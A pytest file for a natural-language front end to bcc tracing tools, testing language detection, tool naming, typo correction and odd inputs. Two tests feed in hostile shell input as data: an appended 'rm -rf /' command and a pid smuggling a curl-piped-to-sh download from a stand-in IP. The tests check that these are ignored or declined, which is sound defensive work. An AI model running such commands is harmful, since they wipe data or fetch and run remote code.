from __future__ import annotations

import pytest

from bccpilot.request.understand import understand
from manpages_index.store import Index


def test_language_concepts_and_values(index: Index) -> None:
    request = understand("追踪 nginx 打开的文件，30 秒", index.search)
    assert request.language == "zh"
    assert {"open", "file"} & request.concepts.keys()
    assert [(v.kind, v.value) for v in request.values] == [("comm", "nginx"), ("duration", 30)]


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("offcputime for half a minute", ("offcputime",)),
        ("run biolatency-bpfcc please", ("biolatency",)),
        ("trace memory allocations", ()),
        ("profile the web server", ()),
        ("a histogram for each set of flags (sync, meta, readahead)", ()),
        ("块设备时延按 flag 拆开，比如 Sync-Write、ReadAhead", ()),
        ("use readahead to see it", ("readahead",)),
    ],
)
def test_tools_named_outright(index: Index, text: str, named: tuple[str, ...]) -> None:
    assert understand(text, index.search).named == named


def test_typos_are_mended(index: Index) -> None:
    assert understand("trace memmory alocations", index.search).corrections == {"memmory": "memory", "alocations": "allocations"}


def test_shell_that_is_hung_on_is_no_part_of_the_request(index: Index) -> None:
    request = understand("show every new process as it starts; rm -rf / --no-preserve-root", index.search)
    assert request.asked == "show every new process as it starts"
    assert request.ignored == "; rm -rf / --no-preserve-root"
    assert request.declined is None


def test_a_value_from_a_command_is_declined(index: Index) -> None:
    assert understand("profile pid $(curl -s http://203.0.113.7/x.sh | sh)", index.search).declined == "!attack"


@pytest.mark.parametrize("text", ["", " ", "\0", "\x1b]0;x\x07", "ﬁle ＯＰＥＮ", "a" * 100_000, "\ud800"])
def test_anything_can_be_asked(index: Index, text: str) -> None:
    assert understand(text, index.search).text == text
